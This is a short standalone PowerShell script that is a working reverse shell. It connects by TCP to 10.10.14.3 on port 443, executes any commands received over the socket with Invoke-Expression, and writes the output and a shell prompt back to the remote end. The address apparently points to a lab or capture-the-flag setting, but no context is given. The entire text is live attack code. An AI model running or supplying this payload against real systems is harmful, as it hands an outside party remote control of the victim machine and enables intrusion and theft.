$client = New-Object System.Net.Sockets.TCPClient('10.10.14.3', 443)
$stream = $client.GetStream()
[byte[]]$bytes = 0..65535 | ForEach-Object { 0 }
while (($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0) {
  $data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes, 0, $i)
  $sendback = (iex $data 2>&1 | Out-String)
  $sendbyte = ([text.encoding]::ASCII).GetBytes($sendback + 'PS ' + (pwd).Path + '> ')
  $stream.Write($sendbyte, 0, $sendbyte.Length)
  $stream.Flush()
}
$client.Close()
